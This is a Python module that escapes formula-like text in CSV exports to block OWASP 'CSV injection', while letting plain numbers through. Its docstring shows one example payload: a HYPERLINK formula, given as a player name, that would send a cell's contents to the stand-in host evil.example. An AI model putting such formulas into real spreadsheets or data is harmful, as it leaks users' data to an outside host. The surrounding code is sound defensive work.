"""CSV cells that a spreadsheet never runs as a formula (OWASP «CSV injection»). Pure Python.

Every CSV file the app writes goes through :func:`csv_safe_writer`: a player named
``=HYPERLINK("http://evil.example/?"&A1,"click")`` must reach Excel as text, not as a link
that sends the sheet away. The rule (OWASP): a text cell that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a single quote ``'`` in front. One exception
keeps the score columns usable: a cell that is a plain number (``-250``, ``-1.50``,
``+3``, ``0,5``) is data, not a formula, and stays as it is. Numbers (``int``, ``float``)
are never touched either.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from fractions import Fraction
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")
_NUMBERS = (int, float, Decimal, Fraction)


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet may read it: formula-like text gets a leading «'»."""
    if value is None or isinstance(value, _NUMBERS):
        return value
    text = value if isinstance(value, str) else str(value)  # lazy strings, rooms …
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class CsvSafeWriter:
    """A :func:`csv.writer` whose every cell passes :func:`safe_cell` first."""

    def __init__(self, file, **fmtparams):
        self._writer = csv.writer(file, **fmtparams)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_safe_writer(file, **fmtparams) -> CsvSafeWriter:
    """Like ``csv.writer(file, **fmtparams)``, for files people open in a spreadsheet."""
    return CsvSafeWriter(file, **fmtparams)
